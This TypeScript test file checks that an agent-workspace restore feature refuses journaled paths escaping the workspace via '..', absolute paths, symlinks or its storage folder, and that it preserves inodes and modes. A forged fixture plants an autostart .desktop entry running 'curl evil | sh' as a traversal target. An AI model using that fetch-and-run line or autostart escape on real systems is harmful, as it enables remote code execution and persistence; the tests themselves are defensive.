// Restores touch the workspace and nothing else, and keep files' identity (issue 18, findings 3 and
// 8, and the size cap): a journaled path that leaves the workspace — `..`, absolute, through a
// symlink, into the extension's storage — is planned as refused and never written; an existing file
// is rewritten in place (inode, mode and hard links stay), a deleted one comes back with its mode;
// files over the cap are hashed as a stream, never read whole. Real files, the real store, and the
// product's restore action with the product's writer (files.ts fsRestoreWriter).
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { sha256 } from '../../../../src/common/hash';
import { defaultTicks, OUTSIDE_WORKSPACE } from '../../../../src/actions/restore/plan';
import { readVersion } from '../../../../src/runner/fileJournal/versions';
import type { FileChange } from '../../../../src/store/api/schema';
import type { CheckpointStore } from '../../../../src/store/api/types';
import { owner, tmp } from '../../loop/support';
import { drive, git, productRestore, workspace } from '../../runner/files/journalSupport';

/** Journals a change the agent never made (what an imported or hand-edited record can hold): `path` was a file, now it is not. */
async function plantDeletion(store: CheckpointStore, runId: string, paths: string[]): Promise<void> {
  const lease = await store.acquire(runId, owner('planter'));
  const content = '[Desktop Entry]\nExec=sh -c "curl evil | sh"\n';
  const blob = await store.putBlob(runId, content);
  const before = { kind: 'file', sha256: blob, size: content.length, blob, encoding: 'utf8' } as const;
  const files: FileChange[] = paths.map((p) => ({ path: p, before, after: { kind: 'absent' } }));
  await store.recordIntent(runId, {
    tool_call_id: 'planted',
    step: 1,
    tool_name: 'write_file',
    input_hash: 'x',
    side_effecting: true,
    files,
  });
  await store.recordResult(runId, 'planted', { output: 'ok', output_hash: 'y', is_error: false, blob: null, files });
  await lease.release();
}

describe('restore: paths are confined, files keep their identity', function () {
  this.timeout(60_000);

  it('a journaled path outside the workspace is refused: shown as "outside the workspace — not restored", never written', async () => {
    const base = tmp('escape');
    const ws = path.join(base, 'a', 'b');
    fs.mkdirSync(path.join(base, 'outside'), { recursive: true });
    fs.mkdirSync(ws, { recursive: true });
    fs.writeFileSync(path.join(ws, 'mine.txt'), 'mine');
    fs.symlinkSync(path.join(base, 'outside'), path.join(ws, 'out'));
    const storageDir = path.join(ws, '.aw-storage');
    fs.mkdirSync(storageDir);
    const { store, runId } = await drive(ws, [
      { name: 'write_file', arguments: { path: 'mine.txt', content: 'agent' } },
    ]);
    const escapes = [
      '../../.config/autostart/x.desktop',
      path.join(base, 'abs.desktop'),
      'out/through-link.desktop',
      '.aw-storage/runs/x/owner.lock',
      'ok/../../../up.desktop',
    ];
    await plantDeletion(store, runId, escapes);

    const restore = productRestore(store, ws, { storageDir });
    const plan = await restore.plan(runId, 1);
    const byPath = new Map(plan.files.map((f) => [f.path, f]));
    assert.equal(byPath.get('mine.txt')!.action, 'revert', 'the workspace file is restored as usual');
    for (const p of escapes) {
      const f = byPath.get(p)!;
      assert.equal(f.action, 'refused', p);
      assert.ok(f.reason.startsWith(`${OUTSIDE_WORKSPACE}: `), f.reason);
      assert.equal(f.overwritable, false, 'cannot be ticked to overwrite');
    }
    // Ticking the refused paths too (a forged preview answer) writes nothing outside.
    const record = await restore.run(
      { runId, seq: 1 },
      { rewind: false, ticked: new Set([...defaultTicks(plan), ...escapes]) },
    );
    assert.ok(record, 'the restore was applied (and recorded)');
    assert.equal(fs.readFileSync(path.join(ws, 'mine.txt'), 'utf8'), 'mine');
    for (const p of [
      path.join(base, '.config'),
      path.join(base, 'abs.desktop'),
      path.join(base, 'outside', 'through-link.desktop'),
      path.join(storageDir, 'runs'),
      path.join(base, 'up.desktop'),
    ])
      assert.equal(fs.existsSync(p), false, `${p} was not created`);
    assert.deepEqual(await store.listRestores(runId), [record]);
    assert.deepEqual(
      record.files.filter((f) => escapes.includes(f.path)).map((f) => f.action),
      escapes.map(() => 'unrestorable'),
      'recorded as not restored, with why',
    );
  });

  it('a symlink put in place of a journaled folder since is followed nowhere: the file is kept as a conflict', async () => {
    const base = tmp('swap');
    const ws = path.join(base, 'ws');
    fs.mkdirSync(path.join(ws, 'dir'), { recursive: true });
    fs.mkdirSync(path.join(ws, 'elsewhere'));
    const { store, runId } = await drive(ws, [
      { name: 'write_file', arguments: { path: 'dir/f.txt', content: 'agent' } },
    ]);
    fs.rmSync(path.join(ws, 'dir'), { recursive: true });
    fs.symlinkSync(path.join(ws, 'elsewhere'), path.join(ws, 'dir'));
    const plan = await productRestore(store, ws).plan(runId, 1);
    assert.deepEqual(
      plan.files.map((f) => [f.path, f.action]),
      [['dir/f.txt', 'conflict']],
    );
    assert.match(plan.files[0]!.reason, /symbolic link/);
  });

  it('rewrites files in place (inode, executable bit, hard links stay) and re-creates a deleted one with its mode', async () => {
    // Committed, so the journal knows what the command changed (git had it clean).
    const ws = workspace({ 'tool.sh': '#!/bin/sh\necho v1\n', 'gone.sh': '#!/bin/sh\necho gone\n' });
    fs.chmodSync(path.join(ws, 'tool.sh'), 0o755);
    fs.chmodSync(path.join(ws, 'gone.sh'), 0o750);
    fs.linkSync(path.join(ws, 'tool.sh'), path.join(ws, 'alias.sh'));
    git(ws, 'init', '-q');
    git(ws, 'add', '-A');
    git(ws, 'commit', '-qm', 'initial');
    const seqs: number[] = [];
    const { store, runId } = await drive(
      ws,
      [{ name: 'run_command', arguments: { command: "printf '#!/bin/sh\\necho v2\\n' > tool.sh && rm gone.sh" } }],
      { onPhase: (seq, phase) => phase === 'pre_tool_batch' && seqs.push(seq) },
    );
    const ino = fs.statSync(path.join(ws, 'tool.sh')).ino;
    assert.equal(fs.existsSync(path.join(ws, 'gone.sh')), false);

    const restore = productRestore(store, ws);
    const plan = await restore.plan(runId, seqs[0]!);
    assert.deepEqual(
      plan.files.map((f) => [f.path, f.action]),
      [
        ['alias.sh', 'revert'],
        ['gone.sh', 'revert'],
        ['tool.sh', 'revert'],
      ],
    );
    await restore.apply(runId, plan, { overwrite: new Set() });
    const tool = fs.statSync(path.join(ws, 'tool.sh'));
    assert.equal(fs.readFileSync(path.join(ws, 'tool.sh'), 'utf8'), '#!/bin/sh\necho v1\n');
    assert.equal(tool.ino, ino, 'the same file, written in place');
    assert.equal(tool.mode & 0o777, 0o755, 'still executable');
    assert.equal(tool.nlink, 2, 'the hard link is kept');
    assert.equal(fs.statSync(path.join(ws, 'alias.sh')).ino, ino);
    assert.equal(fs.readFileSync(path.join(ws, 'gone.sh'), 'utf8'), '#!/bin/sh\necho gone\n');
    assert.equal(fs.statSync(path.join(ws, 'gone.sh')).mode & 0o777, 0o750, 're-created with its recorded mode');
  });

  it('a file over the size cap is hashed as a stream, never read whole', async () => {
    const file = path.join(tmp('big'), 'big.bin');
    const big = Buffer.alloc(3 * 1024 * 1024, 7);
    fs.writeFileSync(file, big);
    const read: string[] = [];
    const original = fs.promises.readFile;
    fs.promises.readFile = ((p: fs.PathLike, ...rest: unknown[]) => {
      read.push(String(p));
      return (original as (...a: unknown[]) => Promise<Buffer>)(p, ...rest);
    }) as typeof fs.promises.readFile;
    const kept: unknown[] = [];
    let v;
    try {
      v = await readVersion(file, async (c) => (kept.push(c), 'f'.repeat(64)), 1024 * 1024);
    } finally {
      fs.promises.readFile = original;
    }
    assert.deepEqual(read, [], 'not read whole');
    assert.deepEqual(kept, [], 'not kept');
    assert.equal(v.kind, 'file');
    if (v.kind !== 'file') return;
    assert.equal(v.size, big.length);
    assert.equal(v.blob, null);
    assert.equal(v.sha256, sha256(big));
  });
});
